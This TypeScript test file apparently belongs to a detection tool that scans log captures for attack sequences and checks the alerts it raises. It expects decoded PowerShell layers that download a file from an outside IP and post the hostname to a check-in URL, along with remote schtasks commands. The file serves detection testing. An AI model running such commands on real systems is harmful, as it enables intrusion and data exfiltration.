/**
 * Every sample against the alerts it must raise: in the order of the file, in other orders of arrival, by the program
 * and by its stages.
 */
import { describe, expect, test } from "vitest";
import {
  joinLines,
  reverseWithin,
  SAMPLE_NAMES,
  sampleBytes,
  sampleExpectation,
  samplePath,
  shuffleWithin,
  splitLines,
} from "../support/captures.ts";
import type { SampleName } from "../support/captures.ts";
import { documents, tripline } from "../support/program.ts";
import { scanBytes } from "../support/scan.ts";
import type { ScanResult } from "../support/scan.ts";

type Document = ScanResult["alerts"][number];

/** Of the sequence, which the expectations are about. */
const ofSequence = (alerts: readonly Document[]): readonly Document[] =>
  alerts.filter((alert) => alert["tripline.row"] === undefined);

/** Samples tell the truth about the time zone. */
const CLOCK_MS = 0;

const us = (time: string): number =>
  Date.parse(`${time.slice(0, 19)}Z`) * 1_000 +
  Number(`0.${/\.(\d+)Z$/.exec(time)?.[1] ?? 0}`) * 1_000_000;

/** An alert in the words of an expectation; evidence lines by their text, for they move with the order. */
function summarize(alert: Document, textAt: (line: number) => string): unknown {
  const events = alert["tripline.events"];
  return {
    rule: alert["kibana.alert.rule.name"],
    host: alert["host.name"],
    events: events.map((event) => ({
      text: textAt(event.line),
      "@timestamp": event["@timestamp"],
      step: event.step,
    })),
    spanSeconds:
      (us(events.at(-1)!["@timestamp"]) - us(events[0]!["@timestamp"])) /
      1_000_000,
    actions: alert["tripline.actions"].slice(0, 1).map((action) =>
      action.type === "exec"
        ? {
            type: action.type,
            command: action.command,
            arguments: action.arguments,
          }
        : { type: action.type },
    ),
    source: alert["tripline.actions"][0]?.from,
  };
}

function expected(name: SampleName): unknown[] {
  const lines = splitLines(sampleBytes(name));
  return sampleExpectation(name).alerts.map((alert) => ({
    ...alert,
    events: alert.events.map(({ line, ...rest }) => ({
      text: lines[line - 1],
      ...rest,
    })),
    source: expect.stringContaining(alert.source) as unknown,
  }));
}

describe.each(SAMPLE_NAMES)("%s", (name) => {
  const lines = splitLines(sampleBytes(name));

  const expectSame = async (order: readonly string[]): Promise<void> => {
    const result = await scanBytes(joinLines(order));
    expect(
      result.alerts.map((alert) =>
        summarize(alert, (line) => order[line - 1]!),
      ),
    ).toEqual(expected(name));
    expect(result.badLines).toEqual([]);
    expect(result.counters).toMatchObject({ late: 0, unparsed: 0 });
  };

  test("tripline scan raises what is expected, on the lines expected", async () => {
    const { code, stdout } = await tripline(["scan", samplePath(name)]);
    expect(code).toBe(0);
    const alerts = ofSequence(documents(stdout) as unknown as Document[]);
    expect(
      alerts.map((alert) => summarize(alert, (line) => lines[line - 1]!)),
    ).toEqual(expected(name));
    expect(
      alerts.map((alert) =>
        alert["tripline.events"].map((event) => event.line),
      ),
    ).toEqual(
      sampleExpectation(name).alerts.map(({ events }) =>
        events.map(({ line }) => line),
      ),
    );
  });

  test.each([1, 2, 3])("up to 170 s late, seed %i", async (seed) => {
    await expectSame(shuffleWithin(lines, CLOCK_MS, 170_000, seed));
  });

  test("in event order", async () => {
    await expectSame(shuffleWithin(lines, CLOCK_MS, 0, 1));
  });

  test.each([10_000, 60_000, 170_000])(
    "in stretches of %i ms, each from back to front",
    async (stretchMs) => {
      await expectSame(reverseWithin(lines, CLOCK_MS, stretchMs));
    },
  );
});

test("the commands inside the commands are in the alerts", async () => {
  const layers = async (name: SampleName): Promise<unknown> => {
    const { alerts } = await scanBytes(sampleBytes(name));
    return alerts[0]!["tripline.actions"][0]!.layers;
  };
  expect(await layers("incident-winlogbeat")).toEqual([
    {
      kind: "powershell-encoded",
      text: "iwr http://198.51.100.23/inventory.txt -OutFile $env:TEMP\\inventory.txt",
    },
  ]);
  expect(await layers("incident-endpoint")).toMatchObject([
    { kind: "cmd" },
    { kind: "start" },
    {
      kind: "powershell-encoded",
      text: "irm http://198.51.100.77/checkin -Method Post -Body (hostname) | Out-Null",
    },
  ]);
});

test("all samples at once raise what each raises alone", async () => {
  const { code, stdout } = await tripline([
    "scan",
    ...SAMPLE_NAMES.map(samplePath),
  ]);
  expect(code).toBe(0);
  const alerts = documents(stdout) as unknown as Document[];
  expect(
    ofSequence(alerts)
      .map((alert) => alert["host.name"])
      .sort(),
  ).toEqual(["SRV-FILES2.corvane.example", "SRV-PRINT1"]);
  // Which of these name another machine, the detection does not ask.
  expect(
    alerts
      .map((alert) => alert["tripline.row"])
      .filter((row) => row !== undefined)
      .map((row) => [
        row["dest"],
        row["user"],
        row["count"],
        String(row["process"]).slice(0, 44),
      ])
      .sort(),
  ).toEqual([
    [
      "LT-2260",
      "adm-okeke",
      1,
      "schtasks /create /s SRV-PRINT1 /u CORVANE\\ad",
    ],
    [
      "SRV-LEDGER.corvane.example",
      "j.aldana",
      2,
      'schtasks /create /tn "Corvane\\Ledger export"',
    ],
    [
      "WS-0417.corvane.example",
      "adm-okeke",
      2,
      'schtasks /create /S SRV-FILES2 /TN "\\Microso',
    ],
    [
      "WS-0417.corvane.example",
      "m.halvorsen",
      2,
      'schtasks /create /tn "Corvane\\Daily report" ',
    ],
    [
      "WS-0532.corvane.example",
      "j.aldana",
      2,
      'schtasks /create /tn "Corvane\\Print queue ch',
    ],
  ]);
});
